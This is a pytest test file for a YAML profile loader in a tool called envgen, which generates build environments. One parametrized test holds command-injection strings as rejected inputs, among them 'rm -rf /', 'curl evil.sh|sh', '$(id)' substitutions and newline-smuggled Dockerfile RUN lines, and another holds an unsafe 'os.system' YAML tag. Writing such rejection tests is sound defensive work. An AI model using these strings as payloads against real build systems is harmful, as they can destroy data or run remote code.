"""Strict profile loading: every mistake is an error naming the file, the line and the field."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from envgen.errors import ProfileError, ProfileNotFound
from envgen.profile import list_profiles, load_profile
from envgen.profile.loader import deep_merge

GOOD = """\
name: demo
base: ubuntu:22.04
installer: pip
python: "3.10"
gpu: {required: false}
packages:
  pip: ["rich==13.7.1"]
"""


def write(tmp_path: Path, text: str, name: str = "demo.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def error_of(path: Path, env: dict[str, str] | None = None) -> str:
    with pytest.raises(ProfileError) as info:
        load_profile(str(path), env)
    return info.value.one_line()


def test_good_profile_loads(tmp_path: Path) -> None:
    profile = load_profile(str(write(tmp_path, GOOD)))
    assert profile.name == "demo" and profile.packages.pip == ["rich==13.7.1"]


@pytest.mark.parametrize("name", ["legacy-maxwell", "modern-a100", "ngc-tensorflow", "cpu-smoke", "cpu-minimal"])
def test_builtin_profiles_load(name: str) -> None:
    assert load_profile(name, {}).name == name


def test_unknown_key_names_line_field_and_allowed(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD + "frameworks:\n  tensorflw: '2.12.0'\n"))
    assert "demo.yaml:9" in msg and "frameworks.tensorflw" in msg and "tensorflow" in msg


def test_misspelled_top_level_key(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD + "pakages: {pip: []}\n"))
    assert "demo.yaml:8" in msg and "unknown field 'pakages'" in msg and "packages" in msg


def test_wrong_type(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD.replace('python: "3.10"', "python: 3.10")))
    assert "demo.yaml:4" in msg and "'python'" in msg


def test_malformed_version(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD.replace('"3.10"', '"3.x"')))
    assert "field 'python' = '3.x'" in msg and "version" in msg


def test_missing_required(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD.replace("base: ubuntu:22.04\n", "")))
    assert "required field 'base' is missing" in msg


def test_yaml_syntax_error_names_line(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD + "env: {A: [\n"))
    assert "invalid YAML" in msg and "demo.yaml:" in msg


def test_duplicate_key(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD + 'python: "3.11"\n'))
    assert "duplicate key python" in msg


def test_empty_file(tmp_path: Path) -> None:
    assert "empty" in error_of(write(tmp_path, ""))


@pytest.mark.parametrize(
    ("field", "yaml_text"),
    [
        ("packages.pip.0", 'packages: {pip: ["rich==1.0; rm -rf /"]}'),
        ("packages.pip.0", 'packages: {pip: ["rich`id`"]}'),
        ("packages.pip.0", 'packages: {pip: ["rich; python_version < \'$(id)\'"]}'),
        ("packages.apt.0", 'packages: {apt: ["git && curl evil.sh|sh"]}'),
        ("packages.conda.0", 'packages: {conda: ["numpy=1.2\\nRUN id"]}'),
        ("env.A", 'env: {A: "$(id)"}'),
        ("env.A", 'env: {A: "`id`"}'),  # a space is a value as users write them (CFLAGS: "-O2 -g"): issue 32 item 8
        ("env.bad-key", 'env: {"bad-key": "x"}'),
        ("base", 'base: "ubuntu:22.04\\nRUN curl x"'),
        ("base", 'base: "ubuntu:22.04 AS x"'),
        ("channels.0", 'channels: ["conda-forge;id"]'),
        ("description", 'description: "one\\nRUN id"'),
        ("mirrors.pip_index_url", 'mirrors: {pip_index_url: "https://x/ && id"}'),
        ("gpu.targets.0", 'gpu: {required: false, targets: ["A100\\"; id"]}'),
    ],
)
def test_injection_attempts_rejected(tmp_path: Path, field: str, yaml_text: str) -> None:
    key = yaml_text.split(":", 1)[0]
    text = "\n".join(line for line in GOOD.splitlines() if not line.startswith(key)) + "\n" + yaml_text + "\n"
    if key == "packages":
        text = text.replace('  pip: ["rich==13.7.1"]\n', "")
    msg = error_of(write(tmp_path, text))
    assert f"'{field}'" in msg, msg


def test_consistency_rules(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD.replace("gpu: {required: false}\n", "")))
    assert "gpu.required is true but cuda is not set" in msg


def test_extends_deep_merges(tmp_path: Path) -> None:
    write(tmp_path, GOOD.replace("name: demo", "name: parent"), "parent.yaml")
    child = write(tmp_path, "name: child\nextends: parent\nenv: {A: '1'}\npackages: {apt: [git]}\n", "child.yaml")
    profile = load_profile(str(child), {"ENVGEN_PROFILE_PATH": str(tmp_path)})
    assert profile.name == "child" and profile.env == {"A": "1"}
    assert profile.packages.apt == ["git"] and profile.packages.pip == ["rich==13.7.1"]
    assert profile.base == "ubuntu:22.04"


def test_extends_cycle(tmp_path: Path) -> None:
    write(tmp_path, "name: a\nextends: b\n", "a.yaml")
    write(tmp_path, "name: b\nextends: a\n", "b.yaml")
    msg = error_of(tmp_path / "a.yaml", {"ENVGEN_PROFILE_PATH": str(tmp_path)})
    assert "cycle" in msg


def test_user_profiles_listed_and_found(tmp_path: Path) -> None:
    write(tmp_path, GOOD, "demo.yaml")
    env = {"ENVGEN_PROFILE_PATH": str(tmp_path)}
    names = {s.name: s.origin for s in list_profiles(env)}
    assert names["demo"] == "user" and names["legacy-maxwell"] == "builtin"
    assert load_profile("demo", env).name == "demo"


def test_name_must_match_file_for_named_profiles(tmp_path: Path) -> None:
    write(tmp_path, GOOD, "other.yaml")
    with pytest.raises(ProfileError, match="differs from the file name"):
        load_profile("other", {"ENVGEN_PROFILE_PATH": str(tmp_path)})


def test_unknown_profile_lists_choices() -> None:
    with pytest.raises(ProfileNotFound) as info:
        load_profile("nope", {})
    assert "legacy-maxwell" in info.value.one_line()


def test_deep_merge_replaces_lists() -> None:
    assert deep_merge({"a": {"b": [1], "c": 1}}, {"a": {"b": [2]}}) == {"a": {"b": [2], "c": 1}}


def test_identity_excludes_mirrors(tmp_path: Path) -> None:
    plain = load_profile(str(write(tmp_path, GOOD)))
    mirrored = load_profile(str(write(tmp_path, GOOD + "mirrors: {pip_index_url: 'https://m.example/simple'}\n",
                                      "m.yaml")))
    assert plain.identity() == mirrored.identity()


@pytest.mark.parametrize(
    ("extra", "needle"),
    [
        ("env: !!python/name:os.system x\n", "is not allowed"),
        ("env: !foo bar\n", "is not allowed"),
        ("smoke: {<<: {timeout_s: 100}}\n", "merge keys"),
        ("channels: &a [*a]\n", "refers to itself"),
        ("env: {A: !!binary aGVsbG8=}\n", "is not allowed"),
    ],
)
def test_odd_yaml_is_a_one_line_profile_error(tmp_path: Path, extra: str, needle: str) -> None:
    msg = error_of(write(tmp_path, GOOD + extra))
    assert needle in msg and "demo.yaml:" in msg


def test_non_utf8_file(tmp_path: Path) -> None:
    path = tmp_path / "demo.yaml"
    path.write_bytes(b"\xff\xfename: demo\n")
    assert "not UTF-8" in error_of(path)


def test_alias_used_twice_is_fine(tmp_path: Path) -> None:
    profile = load_profile(str(write(tmp_path, GOOD.replace('  pip: ["rich==13.7.1"]', '  pip: &p ["rich==13.7.1"]')
                                     + "channels: []\n")))
    assert profile.packages.pip == ["rich==13.7.1"]


@pytest.mark.parametrize("name", ["rv.", "a-", "a..b", "a___b", "UPPER", "x" * 64])
def test_profile_names_must_be_valid_image_names(tmp_path: Path, name: str) -> None:
    msg = error_of(write(tmp_path, GOOD.replace("name: demo", f"name: {name!r}")))
    assert "field 'name'" in msg


@pytest.mark.parametrize("url", ["https://mirror.example/debian#frag", "https://m.example/a&b", "https://m/x;id"])
def test_mirror_urls_admit_no_shell_or_sed_metacharacters(tmp_path: Path, url: str) -> None:
    msg = error_of(write(tmp_path, GOOD + f"mirrors: {{apt_mirror: '{url}'}}\n"))
    assert "field 'mirrors.apt_mirror'" in msg


def test_extends_path_is_relative_to_the_extending_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "sub").mkdir()
    write(tmp_path, GOOD.replace("name: demo", "name: base"), "sub/base.yaml")
    child = write(tmp_path, "name: child\nextends: ./base.yaml\n", "sub/child.yaml")
    monkeypatch.chdir(tmp_path)
    assert load_profile(str(child), {}).base == "ubuntu:22.04"


def test_error_in_parent_names_the_parent_file(tmp_path: Path) -> None:
    write(tmp_path, GOOD.replace("name: demo", "name: base2") + "smoke: {timeout_s: 5}\n", "base2.yaml")
    child = write(tmp_path, "name: child2\nextends: base2\n", "child2.yaml")
    msg = error_of(child, {"ENVGEN_PROFILE_PATH": str(tmp_path)})
    assert "base2.yaml:8" in msg and "smoke.timeout_s" in msg


def test_unquoted_version_gets_a_quoting_hint(tmp_path: Path) -> None:
    msg = error_of(write(tmp_path, GOOD.replace('python: "3.10"', "python: 3.10")))
    assert 'write it in quotes ("3.10")' in msg  # as written, not the number YAML read (3.1)
